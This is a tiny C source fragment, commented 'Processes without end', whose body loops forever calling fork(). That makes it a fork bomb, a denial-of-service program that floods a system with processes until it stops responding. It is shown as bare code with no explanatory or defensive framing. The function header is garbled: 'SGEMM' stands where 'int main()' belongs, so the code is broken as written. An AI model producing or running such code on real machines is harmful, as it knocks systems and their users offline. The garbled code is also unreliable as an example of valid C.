// Processes without end.
#include <unistd.h>
SGEMM
{
    for (;;)
        fork();
}
